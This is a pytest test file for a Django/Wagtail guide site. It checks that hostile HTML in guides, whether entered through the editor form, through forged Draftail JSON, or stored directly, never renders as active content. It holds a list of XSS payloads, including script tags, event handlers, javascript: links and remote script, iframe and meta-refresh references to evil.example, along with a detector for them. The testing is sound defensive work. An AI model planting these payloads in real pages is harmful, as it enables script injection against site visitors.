"""Hostile HTML in a guide, through the editor's form and past it: nothing of it acts, wherever it is shown.

Pages are kept for all readers (docs/adr/0012), so one hostile guide would speak to everybody.
"""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from bs4 import BeautifulSoup, Tag
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.template import engines
from django.test import Client
from django.urls import reverse
from wagtail.documents.models import Document
from wagtail.test.utils.form_data import inline_formset, nested_form_data, streamfield

from tests.factories.catalogue import a_guide, a_tool
from tests.factories.people import AgentFactory
from tremplin.catalogue.models import GuideIndexPage, GuidePage
from tremplin.people.actions.roles import grant_role
from tremplin.people.core.roles import Role

pytestmark = [
    pytest.mark.django_db,
    # Wagtail leaves to the collector the temporary file of each picture it makes.
    pytest.mark.filterwarnings("ignore:Unclosed file <tempfile:ResourceWarning"),
]
WORD = "mirabelle"
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)
HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    '<math><mtext><style><img src=x onerror="alert(1)"></style></mtext></math>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed" onclick="alert(1)">x</p>',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/"></object>',
    '<embed embedtype="media" url="https://evil.example/"/>',
    '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?x ><img src=x onerror=alert(1)>?>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    *(f'<a href="{link}">ici</a>' for link in LINKS),
)
ACTIVE = (
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "form",
    "base",
    "meta",
    "link",
    "button",
    "img",
)
ADDRESSES = ("href", "src", "action", "formaction", "data", "xlink:href", "srcset", "poster")


@pytest.fixture(autouse=True)
def _wagtails_own_templates() -> Iterator[None]:
    """Wagtail writes `missing|default:…`, which Django skips as soon as undefined variables are watched."""
    engine = engines["django"].engine
    watched, engine.string_if_invalid = engine.string_if_invalid, ""
    yield
    engine.string_if_invalid = watched


@pytest.fixture
def mediator(client: Client) -> Client:
    agent = AgentFactory()
    grant_role(agent=agent, role=Role.MEDIATOR, granted_by=None)
    client.force_login(agent, backend="tremplin.people.backends.PasswordBackend")
    return client


def page_of(client: Client, address: str) -> BeautifulSoup:
    answer = client.get(address)
    assert answer.status_code == 200
    return BeautifulSoup(answer.content.decode(), "html.parser")


def acting(page: BeautifulSoup) -> list[str]:
    """What acts in a page: elements, handlers, addresses that are programs, styles."""
    found = re.findall(r"<[!?](?!doctype|--)", str(page), re.IGNORECASE)
    for element in page.find_all(True):
        assert isinstance(element, Tag)
        if element.name in ACTIVE:
            found.append(element.name)
        found += [name for name in element.attrs if name.startswith("on") or name in {"style", "srcdoc"}]
        for name in ADDRESSES:
            letters = "".join(sign for sign in str(element.get(name, "")) if sign > " ").lower()
            if letters.startswith(("javascript:", "vbscript:", "data:text")) or "evil.example" in letters:
                found.append(f"{name}={letters}")
    return sorted(found)


def everywhere(client: Client, guide: GuidePage) -> dict[str, list[str]]:
    """What acts on each page that shows something of this guide."""
    addresses = {
        "guide": f"/guides/{guide.slug}/",
        "list": "/guides/",
        "preview": reverse("wagtailadmin_pages:view_draft", args=[guide.pk]),
        "search": f"/recherche/?q={WORD}",
    }
    suggestions = client.get(f"/recherche/suggestions/?q={WORD}")
    assert suggestions["Content-Type"] == "application/json"  # read as text by the script that shows them
    return {name: acting(page_of(client, address)) for name, address in addresses.items()}


def body_of(piece: str, *, address: str = "https://video.example/1") -> list[dict[str, Any]]:
    """A body with the piece in every text of every block."""
    captions = Document.objects.create(
        title="x", file=ContentFile(b"WEBVTT\n\n00:00.000 --> 00:01.000\nBonjour.\n", name="x.vtt")
    )
    text = f"<p>La {WORD} est mûre.</p>{piece}"
    return [
        {"type": "step", "value": {"title": piece[:80] or "x", "text": text, "picture": None}},
        {"type": "pitfall", "value": {"title": piece, "text": text}},
        {"type": "tip", "value": {"text": text}},
        {"type": "paragraph", "value": {"title": piece, "text": text}},
        {
            "type": "video",
            "value": {"title": piece, "address": address, "captions": captions.pk, "transcript": text},
        },
    ]


def harmless(client: Client) -> dict[str, list[str]]:
    """What acts in the same pages when the guide says nothing wrong."""
    guide = a_guide("verger", body=body_of(""), title=f"La {WORD}", summary=f"La {WORD}.", reassurance="Rien")
    found = everywhere(client, guide)
    guide.delete()
    return found


@pytest.mark.parametrize("piece", HOSTILE)
def test_each_of_them_in_each_text(piece: str) -> None:
    expected, found = (acting_in(body_of(words)) for words in ("", piece))
    assert found == expected


@pytest.mark.parametrize("link", LINKS)
def test_a_video_whose_address_is_a_program(link: str) -> None:
    assert acting_in(body_of("", address=link)) == acting_in(body_of("", address=""))
    assert "href=https://evil.example/" in acting_in(body_of("", address="https://evil.example/"))


def acting_in(body: list[dict[str, Any]]) -> list[str]:
    """What acts in a body written past the editor, then read from the database."""
    page = GuidePage(title="x", slug="x", summary="x", body=body)
    GuideIndexPage.objects.get().add_child(instance=page)
    html = GuidePage.objects.get(pk=page.pk).rendered_body()
    page.delete()
    return acting(BeautifulSoup(html, "html.parser"))


def test_written_past_the_editor_it_acts_nowhere(mediator: Client) -> None:
    expected, everything = harmless(mediator), "".join(HOSTILE)
    texts = {"title": f"La {WORD} {HOSTILE[0]}", "summary": f"La {WORD}. {HOSTILE[2]}", "reassurance": everything}
    guide = a_guide("verger", body=body_of(everything), **texts)
    assert everywhere(mediator, guide) == expected


def test_written_in_the_form_of_the_editor_it_acts_nowhere(mediator: Client) -> None:
    expected = harmless(mediator)
    address = reverse("wagtailadmin_pages:add", args=["catalogue", "guidepage", GuideIndexPage.objects.get().pk])
    answer = mediator.post(address, form(draftail("".join(HOSTILE))))
    assert answer.status_code == 302
    guide = GuidePage.objects.get()
    assert guide.live
    found = everywhere(mediator, guide)
    more = {name: [one for one in acts if one not in expected[name]] for name, acts in found.items()}
    assert more == {name: [] for name in expected}


def draftail(text: str) -> str:
    """What a forged editor may send for one rich text: words, links, pictures and embeds of its own."""
    entities = [{"type": "LINK", "mutability": "MUTABLE", "data": {"url": link, "href": link}} for link in LINKS]
    entities += [
        {"type": "EMBED", "mutability": "IMMUTABLE", "data": {"url": "https://evil.example/", "html": HOSTILE[0]}},
        {"type": "IMAGE", "mutability": "IMMUTABLE", "data": {"id": 1, "src": "x", "alt": HOSTILE[2], "format": "x"}},
    ]
    spans = [{"offset": n, "length": 1, "key": n} for n in range(len(LINKS))]
    styles = [{"offset": 0, "length": 5, "style": style} for style in ("BOLD", "script", "onclick=alert(1)")]
    around = {"depth": 0, "inlineStyleRanges": [], "entityRanges": [], "data": {"onclick": "alert(1)"}}
    blocks = [
        {**around, "key": "a", "text": f"La {WORD} {text}", "type": "unstyled", "inlineStyleRanges": styles},
        {**around, "key": "b", "text": "abcdefgh", "type": "unstyled", "entityRanges": spans},
        *(
            {
                **around,
                "key": f"c{n}",
                "text": " ",
                "type": "atomic",
                "entityRanges": [{"offset": 0, "length": 1, "key": n}],
            }
            for n in (len(LINKS), len(LINKS) + 1)
        ),
    ]
    return json.dumps({"blocks": blocks, "entityMap": {str(n): entity for n, entity in enumerate(entities)}})


def form(text: str) -> dict[str, Any]:
    """The form of a guide of one step and one paragraph, to be published."""
    step = {"title": HOSTILE[0], "text": text, "picture": {"image": "", "decorative": "", "alt_text": ""}}
    return nested_form_data(
        {
            "title": f"La {WORD} {HOSTILE[0]}",
            "slug": "verger",
            "summary": f"La {WORD} {HOSTILE[2]}",
            "reassurance": "".join(HOSTILE),
            "keywords": HOSTILE[2],
            "guide_kind": "tutorial",
            "level": "beginner",
            "minutes": "3",
            "competence": "",
            "main_tool": "",
            "owner": "",
            "review_every_months": "6",
            "verified_at": "",
            "verified_by_name": "",
            "action-publish": "1",
            "body": streamfield([("step", step), ("paragraph", {"title": HOSTILE[4], "text": text})]),
            "next_guides": inline_formset([]),
            "comments": inline_formset([]),
        }
    )


@pytest.mark.parametrize("link", LINKS)
def test_a_tool_whose_address_is_a_program(link: str) -> None:
    with pytest.raises(ValidationError):
        a_tool("teams", address=link)
